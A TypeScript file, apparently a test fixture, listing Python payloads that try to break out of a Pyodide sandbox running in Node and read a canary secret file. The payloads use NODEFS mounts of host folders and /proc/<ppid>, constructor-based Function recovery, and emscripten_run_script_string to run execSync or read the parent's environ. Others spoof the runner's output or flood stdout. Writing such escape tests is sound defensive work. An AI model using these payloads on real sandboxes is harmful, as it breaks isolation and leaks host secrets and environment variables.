/** Finds the objects of the engine through the collector, as nothing in Python hides them. */
const ENGINE = `import gc, os, sys
p = [o.jsproxy for o in gc.get_objects() if type(o).__name__ == 'JsLoader' and hasattr(o.jsproxy, 'FS')][0]
`
/** Gets the modules that were taken away, as every program can. */
const HOLD = `import sys, importlib.machinery as m
sys.meta_path[:] = [m.BuiltinImporter, m.FrozenImporter, m.PathFinder]
import _pyodide_core as core, ctypes
`
const MOUNT = `p.FS.mkdir('/mnt'); o = p.ERRNO_CODES; o.root = ROOT
p.FS.mount(p.FS.filesystems.NODEFS, o, '/mnt')
`
/** Makes code of text again, by a name that the engine looks up on its prototypes. */
const FUNCTION = `Obj = p.constructor
X = p.PATH
X.prototype = getattr(Obj, '__proto__')
Obj.prototype.Function = X
`
const SCRIPT = `f = ctypes.CDLL(None).emscripten_run_script_string; f.restype = ctypes.c_char_p
`

/**
 * Programs that reach for what is around their engine. `CANARY` is the path of a file with a
 * secret, `ROOT` its folder, `PARENT` the number of the service's process.
 */
export const PYTHON_WAYS: readonly (readonly [name: string, code: string])[] = [
  [
    'mounts the folder of the host, with a name put back',
    `${ENGINE}${FUNCTION}${MOUNT}print(os.listdir('/mnt'), open('/mnt/canary.mjs').read())
open('/mnt/written.txt', 'w').write('x')`,
  ],
  ['mounts the folder of the host', `${ENGINE}${MOUNT}print(open('/mnt/canary.mjs').read())`],
  [
    'mounts the processes of the host',
    `${ENGINE}ROOT = '/proc/' + str(PARENT)\n${FUNCTION}${MOUNT}print(open('/mnt/environ', 'rb').read())`,
  ],
  [
    'asks any object of the engine for its process',
    `import gc
for o in gc.get_objects():
    for name in ('jsproxy', 'jsproxies', 'obj'):
        try:
            held = getattr(o, name)
            print(held.constructor.constructor('return process.env')())
            print(held.constructor.constructor('return process.getBuiltinModule("fs").readFileSync("' + CANARY + '", "utf8")')())
        except Exception:
            pass
raise SystemExit(1)`,
  ],
  [
    'runs a script of the engine',
    `${HOLD}print(core.run_js('process.getBuiltinModule("fs").readFileSync("' + CANARY + '", "utf8")'))`,
  ],
  [
    'runs a script by a native name',
    `${HOLD}${SCRIPT}print(f(b'process.getBuiltinModule("fs").readFileSync("' + CANARY.encode() + b'", "utf8")'))`,
  ],
  [
    'starts a program by a native name',
    `${HOLD}${SCRIPT}print(f(b'process.getBuiltinModule("child_process").execSync("cat ' + CANARY.encode() + b'").toString()'))`,
  ],
  [
    'reads the variables of the service by a native name',
    `${HOLD}${SCRIPT}print(f(b'process.getBuiltinModule("fs").readFileSync("/proc/" + process.ppid + "/environ", "utf8")'))`,
  ],
  [
    'answers in the place of its runner',
    `${HOLD}${SCRIPT}f(b'process.stdout.write(JSON.stringify({ stdout: process.env, ok: "yes" }))')`,
  ],
  [
    'answers without an end',
    `${HOLD}${SCRIPT}f(b'for (;;) process.getBuiltinModule("fs").writeSync(1, "[".repeat(65536))')`,
  ],
  ['reads a file', `print(open(CANARY).read())`],
  ['reads the own memory', `print(open('/proc/self/mem', 'rb').read(10))`],
  ['connects', `import socket; print(socket.create_connection(('127.0.0.1', PORT), 1))`],
  [
    'asks a server',
    `import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:%d/' % PORT).read())`,
  ],
  ['starts a program', `import subprocess; print(subprocess.check_output(['cat', CANARY]))`],
  ['forks', `import os; print('canary' if os.fork() else 'canary')`],
  ['starts a thread', `import _thread; _thread.start_new_thread(print, ('canary',))`],
]
